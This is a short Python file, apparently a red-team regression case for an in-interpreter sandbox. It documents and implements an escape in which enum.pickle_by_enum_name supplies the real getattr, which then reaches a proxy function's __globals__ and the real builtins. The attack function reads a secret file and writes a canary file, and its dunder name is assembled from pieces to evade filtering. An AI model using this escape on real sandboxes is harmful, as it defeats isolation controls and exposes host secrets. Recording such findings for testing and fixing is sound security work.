# mypy: ignore-errors
# Technique: `enum.pickle_by_enum_name(obj, proto)` is a pickling hook that returns
# `(getattr, (obj.__class__, obj._name_))`, and its `getattr` is the real builtin, with
# no guard on dunder names: `__globals__` of a host-side proxy function gave the runtime's
# module globals and the real builtins. Any object with a `_name_` serves. Found in the
# eighth red-team pass of the in-interpreter layer; was a real in-interpreter escape
# (3.11-3.13) before the fix.
import enum

from suaveplan import fs


class Named:
    _name_ = "x"


def attack(secret_path, canary_path):
    real_getattr = enum.pickle_by_enum_name(Named(), 4)[0]
    found = real_getattr(fs.read_text, "_" * 2 + "globals" + "_" * 2)
    print("SANDBOX-" + "ESCAPED")
    real = found["_b"]
    out = [real.open(secret_path).read()]
    real.open(canary_path, "w").write("x")
    return out
